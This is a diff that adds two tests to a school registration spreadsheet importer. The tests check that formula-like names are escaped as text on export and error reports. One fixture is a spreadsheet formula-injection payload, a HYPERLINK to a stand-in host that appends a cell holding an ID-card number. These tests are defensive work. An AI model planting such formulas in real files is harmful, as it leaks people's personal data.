@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -239,3 +240,45 @@ def test_imported_rows_leave_readable_audit_entries(
     assert entry.after is not None and entry.after["person_id"] == registration.person_id
     assert entry.after["status"] == "pending" and entry.scope_organisation_id == world["school"].pk
     assert entry.at is not None and entry.entity_label.startswith(registration.person.name)
+
+
+def test_formula_like_text_is_exported_as_text_and_imports_back_unchanged(
+    actor_of: Callable[[str], Actor], school: Organisation, tmp_path: Path
+) -> None:
+    # A name that Excel would run as a link sending the row's 身份证号 away, and text starting with -.
+    rows = [list(row) for row in MESSY]
+    rows[0][0] = '=HYPERLINK("http://x.example/?"&B2,"点我")'
+    rows[1][0] = "-李娜"
+    rows[2][4] = "+2025级汽修1班"
+    # A csv, as a program made it: openpyxl would write the first name as a formula.
+    typed = io.StringIO()
+    csv.writer(typed).writerows([HEADER, *rows])
+    assert run_import(actor_of("school"), school, io.BytesIO(typed.getvalue().encode()), name="名册.csv").created == 4
+    out = tmp_path / "export.xlsx"
+    registrations_export(actor=actor_of("school"), school=school, target=out)
+    cells = [cell for row in load_workbook(out).active.iter_rows() for cell in row]  # type: ignore[union-attr]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert {'\'=HYPERLINK("http://x.example/?"&B2,"点我")', "'-李娜", "'+2025级汽修1班"} <= {c.value for c in cells}
+    with out.open("rb") as handle:
+        report = registrations_import(actor=actor_of("school"), school=school, source=handle, filename=out.name)
+    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, 4, [])
+    assert Person.objects.filter(name__in=['=HYPERLINK("http://x.example/?"&B2,"点我")', "-李娜"]).count() == 2
+
+
+def test_the_error_workbook_writes_the_clerks_cells_as_text(
+    actor_of: Callable[[str], Actor], school: Organisation, tmp_path: Path
+) -> None:
+    text = (
+        ",".join(HEADER)
+        + "\n"
+        + '=1+1,"=HYPERLINK(""http://x.example/"")",0102,,1班,中级,全日制,2025-09-01,@13900000000,\n'
+    )
+    data = io.BytesIO(text.encode())
+    report = run_import(actor_of("school"), school, data, name="名册.csv")
+    assert report.errors
+    out = tmp_path / "errors.xlsx"
+    data.seek(0)
+    write_error_report(data, "名册.csv", report, out)
+    cells = [cell for row in load_workbook(out).active.iter_rows() for cell in row]  # type: ignore[union-attr]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'=1+1" in {cell.value for cell in cells}
